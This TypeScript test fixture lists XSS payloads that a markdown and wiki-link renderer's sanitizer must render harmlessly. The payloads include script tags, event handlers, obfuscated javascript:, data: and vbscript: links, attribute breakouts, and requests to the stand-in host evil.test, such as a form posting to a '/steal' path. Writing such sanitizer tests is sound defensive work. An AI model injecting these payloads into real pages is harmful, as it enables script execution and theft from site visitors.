/**
 * Hostile text an editor's account (stolen, or careless pasting) could put in
 * page text. Each must render as harmless text or a safe link: no script, no
 * event handler, no javascript:/data:/vbscript: link, no request to another site.
 * `evil.test` stands for any other site (the .test TLD never resolves).
 */
export const XSS_PAYLOADS: Array<{ name: string; markdown: string }> = [
  { name: 'script element', markdown: '<script>alert(1)</script>' },
  { name: 'script split over lines', markdown: '<scr\nipt>alert(1)</script>' },
  { name: 'img onerror', markdown: '<img src=x onerror=alert(1)>' },
  { name: 'img from another site', markdown: '<img src="http://evil.test/pixel.gif">' },
  { name: 'markdown image from another site', markdown: '![tracker](http://evil.test/pixel.gif)' },
  { name: 'svg onload', markdown: '<svg onload=alert(1)><circle r=1 /></svg>' },
  { name: 'svg with script', markdown: '<svg><script>alert(1)</script></svg>' },
  { name: 'style element', markdown: '<style>body{background:url(http://evil.test/bg.png)}</style>' },
  { name: 'style attribute', markdown: '<p style="background:url(http://evil.test/bg.png)">styled</p>' },
  { name: 'iframe', markdown: '<iframe src="http://evil.test/frame"></iframe>' },
  { name: 'object', markdown: '<object data="http://evil.test/x.swf"></object>' },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="http://evil.test/x.css">' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=http://evil.test/">' },
  { name: 'base href', markdown: '<base href="http://evil.test/">' },
  { name: 'form action', markdown: '<form action="http://evil.test/steal"><button>Go</button></form>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'raw anchor javascript', markdown: '<a href="javascript:alert(1)">click</a>' },
  { name: 'markdown link javascript', markdown: '[click](javascript:alert(1))' },
  { name: 'markdown link upper-case JAVASCRIPT', markdown: '[click](JAVASCRIPT:alert(1))' },
  { name: 'markdown link entity-encoded scheme', markdown: '[click](jav&#x61;script:alert(1))' },
  { name: 'markdown link with tab in scheme', markdown: '[click](java\tscript:alert(1))' },
  { name: 'markdown link data URL', markdown: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { name: 'markdown link vbscript', markdown: '[click](vbscript:msgbox(1))' },
  { name: 'markdown link protocol-relative', markdown: '[click](//evil.test/path)' },
  { name: 'markdown link with title breaking out', markdown: '[click](https://example.org "a\" onmouseover=\"alert(1)")' },
  { name: 'reference-style link to javascript', markdown: '[click][x]\n\n[x]: javascript:alert(1)' },
  { name: 'autolink javascript', markdown: '<javascript:alert(1)>' },
  { name: 'autolink data', markdown: '<data:text/html,<script>alert(1)</script>>' },
  { name: 'wiki link with script target', markdown: '[[<script>alert(1)</script>]]' },
  { name: 'wiki link with handler in label', markdown: '[[Causes: Genetics|<img src=x onerror=alert(1)>]]' },
  { name: 'wiki link breaking the attribute', markdown: '[[" onmouseover="alert(1)]]' },
  { name: 'citation key breaking out', markdown: '[@x"><script>alert(1)</script>]' },
  { name: 'escaped entities stay text', markdown: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;' },
  { name: 'html comment hiding script', markdown: '<!--><script>alert(1)</script>-->' },
  { name: 'code span', markdown: '`<script>alert(1)</script>`' },
];
